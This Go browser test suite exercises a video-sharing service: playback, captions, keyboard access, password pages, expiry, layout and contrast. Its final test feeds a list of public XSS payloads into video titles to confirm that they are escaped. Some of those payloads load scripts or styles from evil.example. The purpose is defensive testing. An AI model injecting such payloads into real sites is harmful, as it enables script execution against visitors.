package e2e

import (
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/go-rod/rod"
	"github.com/go-rod/rod/lib/input"
	"github.com/go-rod/rod/lib/proto"
)

func TestAViewerWatches(t *testing.T) {
	t.Parallel()
	made := film(t, map[string]any{"title": "Evening over the bay"}, scenery(t, 40))
	c := as(t, "creator")
	c.want(200, "PATCH", "/api/v1/videos/"+made.str("id"), map[string]any{"description": "Filmed in one take.\nSound is the wind."})
	v := visitor(t, look{})
	// The first view report gets no response. The service does not receive the second one.
	_, err := v.EvalOnNewDocument(`{
	  const ask = window.fetch;
	  window.reports = 0;
	  window.fetch = (...of) => {
	    if (!new Request(...of).url.endsWith("/view")) return ask(...of);
	    switch (++window.reports) {
	      case 1: return Promise.reject(new TypeError("Failed to fetch"));
	      case 2: return Promise.resolve(new Response("", { status: 503 }));
	      default: return ask(...of);
	    }
	  };
	}`)
	check(t, err)
	v.open(made.str("shareUrl"))
	v.until("the video's metadata", `() => document.querySelector("video").readyState >= 1`)
	v.shot("watch-desktop-light")
	v.play()

	// The page's first permission is valid for 12 s. Playback must continue after it expires.
	begun := time.Now()
	from := eval[float64](v, `() => { window.stalls = 0; return document.querySelector("video").currentTime }`)
	v.until("half a minute of playback", `() => document.querySelector("video").currentTime > 30`)
	played, took := eval[float64](v, `() => document.querySelector("video").currentTime`)-from, time.Since(begun).Seconds()
	sessions := eval[int](v, `() => performance.getEntriesByType("resource").filter(e => e.name.endsWith("/session")).length`)
	stats := eval[map[string]float64](v, `() => { const v = document.querySelector("video"), q = v.getVideoPlaybackQuality(); return {frames: q.totalVideoFrames, audio: v.webkitAudioDecodedByteCount, stalls: window.stalls} }`)
	t.Logf("played %.1f s of film in %.1f s, %d renewals, %v", played, took, sessions, stats)
	if sessions < 2 {
		t.Errorf("%d renewals in 30 s, want at least 2, because permissions are valid for 12 s", sessions)
	}
	if stats["frames"] < 200 || stats["audio"] == 0 || stats["stalls"] > 1 {
		t.Errorf("the player decoded %v, want at least 200 frames, some audio and at most one stall", stats)
	}

	// The service must have counted a view, and a seek must show the frame at its target.
	eventually(t, patience, "one view", func() bool {
		return c.want(200, "GET", "/api/v1/videos/"+made.str("id"), nil).json["views"] == 1.0
	})
	if n := eval[int](v, `() => window.reports`); n != 3 {
		t.Errorf("the view was reported %d times, want 3, because only the third report is acknowledged", n)
	}
	eventually(t, 4*time.Minute, "a storyboard", func() bool {
		return strings.Contains(string(visit(t, made.str("shareUrl")).raw), "data-storyboard")
	})
	v.clean()
	v = visitor(t, look{})
	v.open(made.str("shareUrl"))
	v.play()
	check(t, v.find("video").Focus())
	eval[any](v, `() => { window.seen = false; new MutationObserver(() => { const p = document.querySelector("[data-preview]"); if (!p.hidden && p.querySelector(".tile").style.backgroundImage) window.seen = p.querySelector(".at").textContent }).observe(document.querySelector("[data-preview]"), {attributes: true}); return null }`)
	check(t, v.Keyboard.Type(input.Digit5))
	v.until("the preview of 0:20", `() => window.seen === "0:20"`)
	v.shot("watch-seeking")
	v.clean()
}

// Downloading the player's script fails twice. A viewer who has already pressed the button must
// still see the video. If the script never arrives, the page must show an error.
func TestAViewerWhoseNetworkDropsThePlayer(t *testing.T) {
	t.Parallel()
	made := film(t, map[string]any{}, scenery(t, 2))
	for name, tt := range map[string]struct{ lost, asked int }{"twice": {2, 3}, "always": {1000, 6}} {
		t.Run(name, func(t *testing.T) {
			v := visitor(t, look{})
			// Shorten the page's waits to a tenth. The longest wait is 16 s.
			_, err := v.EvalOnNewDocument(`{ const wait = setTimeout; window.setTimeout = (f, ms, ...rest) => wait(f, ms / 10, ...rest) }`)
			check(t, err)
			// Each attempt uses a different URL. The page's preload and its first script request
			// use the same one.
			var mu sync.Mutex
			asked := map[string]bool{}
			router := v.HijackRequests()
			router.MustAdd("*/hls.*.js*", func(h *rod.Hijack) {
				mu.Lock()
				asked[h.Request.URL().String()] = true
				lost := len(asked) <= tt.lost
				mu.Unlock()
				if lost {
					h.Response.Fail(proto.NetworkErrorReasonConnectionFailed)
					return
				}
				h.ContinueRequest(&proto.FetchContinueRequest{})
			})
			go router.Run()
			t.Cleanup(func() { _ = router.Stop() })
			v.open(made.str("shareUrl"))
			if tt.lost > tt.asked {
				v.Timeout(patience).MustElement("[data-ended]").MustWaitVisible()
				v.shot("watch-player-lost")
				if text := v.find("[data-ended]").MustText(); !strings.Contains(text, "The video does not play") || !strings.Contains(text, "Open the page again") {
					t.Errorf("the page shows %q, want a message that the video does not play and how to try again", text)
				}
			} else {
				v.find("[data-start]").MustClick()
				eventually(t, patience, "the video plays", func() bool { return eval[float64](v, `() => document.querySelector("video").currentTime`) > 0.3 })
			}
			mu.Lock()
			defer mu.Unlock()
			if n := len(asked); n != tt.asked {
				t.Errorf("the player was requested %d times, want %d", n, tt.asked)
			}
			v.clean("ERR_CONNECTION_FAILED")
		})
	}
}

func TestAViewerReadsCaptions(t *testing.T) {
	t.Parallel()
	made := film(t, map[string]any{"title": "With words"}, scenery(t, 10))
	c := as(t, "creator")
	id := made.str("id")
	c.want(200, "PUT", "/api/v1/videos/"+id+"/captions/en", "WEBVTT\n\n00:00.000 --> 00:09.000\nWind over the bay\n", "Content-Type", "text/vtt")
	c.want(200, "PUT", "/api/v1/videos/"+id+"/captions/de", "WEBVTT\n\n00:00.000 --> 00:09.000\n<b>Wind</b> <img src=x onerror=alert(1)>\n", "Content-Type", "text/vtt")
	v := visitor(t, look{})
	v.open(made.str("shareUrl"))
	v.play()
	if labels := eval[[]string](v, `() => [...document.querySelectorAll("track")].map(t => t.label)`); labels[0] != "Deutsch" || labels[1] != "English" {
		t.Errorf("the tracks are %q, want Deutsch and English", labels)
	}
	check(t, v.find("video").Focus())
	for _, want := range []string{"Wind", "Wind over the bay"} {
		check(t, v.Keyboard.Type(input.KeyC))
		v.until("captions "+want, fmt.Sprintf(`() => [...document.querySelector("video").textTracks].some(t => t.mode === "showing" && t.activeCues && t.activeCues[0]?.text.includes(%q))`, want))
	}
	v.shot("watch-captions")
	check(t, v.Keyboard.Type(input.KeyC))
	v.until("no captions", `() => [...document.querySelector("video").textTracks].every(t => t.mode !== "showing")`)
	v.clean()
}

// Phones without Media Source play HLS natively. Chromium supports both, so it can stand in for
// these phones once the test has removed Media Source.
func TestABrowserThatPlaysHLSItself(t *testing.T) {
	t.Parallel()
	made := film(t, map[string]any{"title": "Played natively", "privacy": "unlisted"}, scenery(t, 12))
	v := visitor(t, look{width: 390, height: 800})
	_, err := v.EvalOnNewDocument(`delete window.MediaSource; delete window.ManagedMediaSource; delete window.WebKitMediaSource`)
	check(t, err)
	v.open(made.str("shareUrl"))
	if eval[string](v, `() => document.createElement("video").canPlayType("application/vnd.apple.mpegurl")`) == "" {
		t.Fatal("this Chromium cannot play HLS natively; the test needs version 142 or newer")
	}
	v.play()
	if src := eval[string](v, `() => document.querySelector("video").currentSrc`); !strings.HasSuffix(src, "/master.m3u8") {
		t.Errorf("the player plays %.60s, want a master.m3u8", src)
	}
	v.until("some seconds of playback", `() => document.querySelector("video").currentTime > 4`)
	v.clean()
}

// A video's first playlist exists before its file is complete. Until then, the console plays the
// playlist if the browser can.
func TestTheConsolePlaysAVideoWithoutAFile(t *testing.T) {
	at := furnished()
	v := person(t, look{})
	v.open(stack.BaseURL + at["video"])
	check(t, v.Timeout(patience).MustElement("main video").WaitVisible())
	eval[any](v, `() => {
	  const v = document.querySelector("main video");
	  v.querySelector("source[type='video/mp4']").remove();
	  v.muted = true;
	  v.load();
	  v.play().catch(() => {});
	  return null;
	}`)
	v.until("playback to start", `() => document.querySelector("main video").currentTime > 0.3`)
	if src := eval[string](v, `() => document.querySelector("main video").currentSrc`); !strings.HasSuffix(src, "/master.m3u8") {
		t.Errorf("the player plays %s, want a master.m3u8", src)
	}
	v.clean()
}

func TestWithTheKeyboardAlone(t *testing.T) {
	t.Parallel()
	made := film(t, map[string]any{"title": "No mouse"}, scenery(t, 20))
	v := visitor(t, look{})
	v.open(made.str("shareUrl"))
	v.until("the start button", `() => !document.querySelector("[data-start]").hidden`)
	focused := func() string {
		return eval[string](v, `() => { const e = document.activeElement; return e.tagName + " " + (e.getAttribute("aria-label") || e.textContent).trim().slice(0, 40) }`)
	}
	check(t, v.Keyboard.Type(input.Tab))
	if f := focused(); f != "A Skip to the video" {
		t.Errorf("the first element that Tab reaches is %q, want the skip link", f)
	}
	v.shot("watch-skip-link")
	check(t, v.Keyboard.Type(input.Enter))
	for i := 0; focused() != "BUTTON Play the video"; i++ {
		if i == 12 {
			t.Fatalf("after 12 presses of Tab, the focus is on %q, want the start button", focused())
		}
		check(t, v.Keyboard.Type(input.Tab))
	}
	check(t, v.Keyboard.Type(input.Enter))
	v.until("playback to start", `() => document.querySelector("video").currentTime > 0.2`)
	if f := focused(); !strings.HasPrefix(f, "VIDEO No mouse") {
		t.Errorf("after starting, the focus is on %q, want the video", f)
	}
	check(t, v.Keyboard.Type(input.Space))
	v.until("paused", `() => document.querySelector("video").paused`)
	before := eval[float64](v, `() => document.querySelector("video").currentTime`)
	check(t, v.Keyboard.Type(input.ArrowRight))
	v.until("a position five seconds later", fmt.Sprintf(`() => Math.abs(document.querySelector("video").currentTime - %f) < 0.2`, before+5))
	check(t, v.Keyboard.Type(input.KeyM))
	v.until("muted", `() => document.querySelector("video").muted`)
	check(t, v.Keyboard.Type(input.Home))
	v.until("the position 0", `() => document.querySelector("video").currentTime === 0`)
	check(t, v.Keyboard.Type(input.KeyK))
	v.until("playback to resume", `() => !document.querySelector("video").paused`)
	v.clean()
}

func TestAPasswordInTheBrowser(t *testing.T) {
	t.Parallel()
	made := film(t, map[string]any{"title": "Family only", "privacy": "password", "password": "grün 7"}, scenery(t, 4))
	v := visitor(t, look{})
	v.open(made.str("shareUrl"))
	if f := eval[string](v, `() => document.activeElement.id`); f != "password" {
		t.Errorf("the focus is on %q, want the password field", f)
	}
	v.try("falsch")
	if alert := v.find("[role=alert]").MustText(); !strings.Contains(alert, "not the password") {
		t.Errorf("the message for a wrong password is %q, want it to contain \"not the password\"", alert)
	}
	v.shot("password-wrong")
	v.unlock("grün 7")
	v.find("video")
	if title := v.find("h1").MustText(); title != "Family only" {
		t.Errorf("the page's title is %q, want Family only", title)
	}
	v.play()
	v.clean("status of 403", "status of 429")

	guesser := visitor(t, look{address: "203.0.113.7"})
	guesser.open(made.str("shareUrl"))
	v = guesser
	for range 5 {
		v.try("falsch")
	}
	v.try("grün 7")
	if alert := v.find("[role=alert]").MustText(); !strings.Contains(alert, "Too many attempts") {
		t.Errorf("the message after the sixth attempt is %q, want it to contain \"Too many attempts\"", alert)
	}
	v.shot("password-limited")
	v.clean("status of 403", "status of 429")
}

func TestExpiryWhilePlaying(t *testing.T) {
	t.Parallel()
	made := film(t, map[string]any{"title": "Not for long"}, scenery(t, 60))
	ends := time.Now().Add(sized(t, 20*time.Second, 40*time.Second))
	as(t, "creator").want(200, "PUT", "/api/v1/videos/"+made.str("id")+"/access", map[string]any{"privacy": "expiring", "expiresAt": ends.UnixMilli()})
	v := visitor(t, look{})
	v.open(made.str("shareUrl"))
	v.play()
	v.until("the end of playback", `() => !document.querySelector("[data-ended]").hidden`)
	if late := time.Since(ends); late < -2*time.Second || late > 5*time.Second {
		t.Errorf("playback ended %s after the video's expiry, want -2 s to 5 s", late)
	}
	if !eval[bool](v, `() => { const v = document.querySelector("video"); return v.paused && v.readyState === 0 }`) {
		t.Error("after expiry, the player is not paused or still has data")
	}
	if text := v.find("[data-ended]").MustText(); !strings.Contains(text, "expired") {
		t.Errorf("the viewer sees %q, want it to contain \"expired\"", text)
	}
	v.shot("watch-expired")
	v.open(made.str("shareUrl"))
	if h := v.find("h1").MustText(); h != "This video has expired" {
		t.Errorf("after a reload, the heading is %q, want one that says that the video has expired", h)
	}
	// A view counts after five seconds of playback. On a slow machine the video may expire first,
	// in which case the service rejects the report.
	v.clean("status of 410", "status of 403")
}

func TestAWaitingPageTurnsIntoTheVideo(t *testing.T) {
	t.Parallel()
	c := as(t, "creator")
	made := c.want(201, "POST", "/api/v1/videos", map[string]any{"title": "On its way"})
	v := visitor(t, look{})
	v.open(made.str("shareUrl"))
	if text := v.find("main").MustText(); !strings.Contains(text, "not been uploaded yet") {
		t.Errorf("the page shows %q, want a message that the video has not been uploaded yet", text)
	}
	v.shot("waiting-upload")
	if a := put(t, made.str("uploadUrl"), scenery(t, 6), "video/mp4"); a.status != 200 {
		t.Fatalf("the upload returned %d, want 200", a.status)
	}
	eventually(t, 4*time.Minute, "the page shows the video without being reloaded by the visitor", func() bool {
		found, _, err := v.Has("video")
		return err == nil && found
	})
	v.play()
	v.clean()
}

func TestPagesOnEveryScreen(t *testing.T) {
	t.Parallel()
	c := as(t, "creator")
	made := film(t, map[string]any{"title": "A long title, withOneVeryLongWordThatHasNoPlaceToBreakAnywhere, and a few more words to wrap"}, scenery(t, 5))
	c.want(200, "PATCH", "/api/v1/videos/"+made.str("id"), map[string]any{"description": strings.Repeat("Words and words, ", 20) + "\nhttps://example.com/" + strings.Repeat("a", 90)})
	locked := c.want(201, "POST", "/api/v1/videos", map[string]any{"privacy": "password", "password": "x"})
	waiting := c.want(201, "POST", "/api/v1/videos", map[string]any{"title": "Tomorrow's film"})
	expired := c.want(201, "POST", "/api/v1/videos", map[string]any{"privacy": "expiring", "expiresAt": time.Now().Add(2 * time.Second).UnixMilli()})
	text := filepath.Join(t.TempDir(), "not.mp4")
	check(t, os.WriteFile(text, []byte(strings.Repeat("no film ", 500)), 0o600))
	failed := c.want(201, "POST", "/api/v1/videos", map[string]any{"title": "Damaged"})
	put(t, failed.str("uploadUrl"), text, "")
	eventually(t, 4*time.Minute, "the video fails", func() bool {
		return c.want(200, "GET", "/api/v1/videos/"+failed.str("videoId"), nil).str("status") == "failed"
	})
	pages := map[string]string{
		"watch": made.str("shareUrl"), "locked": locked.str("shareUrl"), "waiting": waiting.str("shareUrl"), "expired": expired.str("shareUrl"),
		"failed": failed.str("shareUrl"), "missing": stack.BaseURL + "/v/zzzzzzz",
		"embed": stack.BaseURL + "/embed/" + made.str("slug"), "embed-locked": stack.BaseURL + "/embed/" + locked.str("slug"),
	}
	for name, l := range map[string]look{
		"phone-light": {width: 320, height: 640}, "phone-dark": {width: 320, height: 640, dark: true},
		"desktop-light": {width: 1440, height: 900}, "desktop-dark": {width: 1440, height: 900, dark: true},
	} {
		t.Run(name, func(t *testing.T) {
			v := visitor(t, l)
			for page, url := range pages {
				v.open(url)
				if name := eval[string](v, `() => document.querySelector("h1, video").textContent.trim() || document.querySelector("video").getAttribute("aria-label")`); name == "" {
					t.Errorf("%s has no name for a screen reader", page)
				}
				if over := eval[int](v, `() => document.documentElement.scrollWidth - innerWidth`); over > 0 {
					t.Errorf("%s is %d px wider than the screen", page, over)
				}
				low := eval[[]string](v, contrast)
				if len(low) > 0 {
					t.Errorf("%s: the contrast of this text is below 4.5: %q", page, low)
				}
				v.shot(page + "-" + name)
			}
			v.clean("status of 404", "status of 410", "networkError") // leaving a page with a player aborts its requests
		})
	}
}

// contrast lists text whose contrast with its background is below WCAG's minimum of 4.5.
const contrast = `() => {
  const rgb = (s) => { const m = s.match(/[\d.]+/g).map(Number); return { c: m.slice(0, 3), a: m[3] ?? 1 } };
  const lum = (c) => { const [r, g, b] = c.map((v) => { v /= 255; return v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4 }); return 0.2126 * r + 0.7152 * g + 0.0722 * b };
  const ground = (e) => { for (; e; e = e.parentElement) { const b = rgb(getComputedStyle(e).backgroundColor); if (b.a > 0.9) return b.c } return [255, 255, 255] };
  const low = [];
  for (const e of document.querySelectorAll("main *, header *, footer")) {
    const own = [...e.childNodes].filter((n) => n.nodeType === 3 && n.data.trim()).map((n) => n.data.trim()).join(" ");
    if (!own || e.closest("[hidden], .player") || !e.checkVisibility()) continue;
    const [a, b] = [lum(rgb(getComputedStyle(e).color).c), lum(ground(e))].sort((x, y) => y - x);
    if ((a + 0.05) / (b + 0.05) < 4.5) low.push(own.slice(0, 40) + " " + ((a + 0.05) / (b + 0.05)).toFixed(2));
  }
  return low;
}`

func TestHostileTextNeverRuns(t *testing.T) {
	t.Parallel()
	c := as(t, "creator")
	made := film(t, map[string]any{}, scenery(t, 2))
	v := visitor(t, look{})
	for _, s := range hostile {
		if a := c.do("PATCH", "/api/v1/videos/"+made.str("id"), map[string]any{"title": s, "description": s}); a.status != http.StatusOK {
			t.Fatalf("a PATCH with the title %q returned %d, want 200: %s", s, a.status, a.raw)
		}
		v.open(stack.BaseURL + "/embed/" + made.str("slug"))
		v.open(made.str("shareUrl"))
		shown := eval[string](v, `() => document.querySelector("h1").textContent`)
		if want := strings.TrimSpace(s); want != "" && shown != want {
			t.Errorf("%q is shown as %q", s, shown)
		}
	}
	if n := eval[int](v, `() => window.ran ?? 0`); n != 0 {
		t.Errorf("%d injected scripts ran, want 0", n)
	}
	v.clean("networkError") // leaving a page aborts its requests
}

// hostile contains payloads from public XSS lists. Each of them would run if some template inserted
// it unescaped.
var hostile = []string{
	`<script>alert(1)</script>`, `"><script>alert(1)</script>`, `'><script>alert(1)</script>`, `</title><script>alert(1)</script>`,
	`</script><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`, `--><script>alert(1)</script>`, `]]><script>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`, `"><img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg><script>alert&#40;1)</script>`,
	`<body onload=alert(1)>`, `<iframe srcdoc="<script>parent.alert(1)</script>">`, `<iframe src=javascript:alert(1)>`, `<a href=javascript:alert(1)>x</a>`,
	`javascript:alert(1)`, `data:text/html,<script>alert(1)</script>`, `" autofocus onfocus=alert(1) x="`, `' autofocus onfocus=alert(1) x='`,
	"` onmouseover=alert(1) x=`", `{{constructor.constructor('alert(1)')()}}`, `${alert(1)}`, "`${alert(1)}`", `#{alert(1)}`, `<%= alert(1) %>`,
	`<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, `<base href="https://evil.example/">`, `<link rel=stylesheet href=data:,*%7bx:expression(alert(1))%7d>`,
	`<style>@import 'https://evil.example/x.css';</style>`, `<object data=javascript:alert(1)>`, `<embed src=javascript:alert(1)>`, `<form action=javascript:alert(1)><button>`,
	`<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)>`, `<marquee onstart=alert(1)>`, `<x onclick=alert(1)>x`, "\u202e<script>alert(1)</script>",
	"\ufeff<script>alert(1)</script>", "<\u200bscript>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
	`\u003cscript\u003ealert(1)\u003c/script\u003e`, `%3Cscript%3Ealert(1)%3C/script%3E`, "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", `<ScRiPt>alert(1)</sCrIpT>`,
	`<script src=//evil.example/x.js></script>`, `<div style="background:url(javascript:alert(1))">`, "<script\x0c>alert(1)</script>", "𝓮𝓿𝓲𝓵 <b>bold</b>",
}
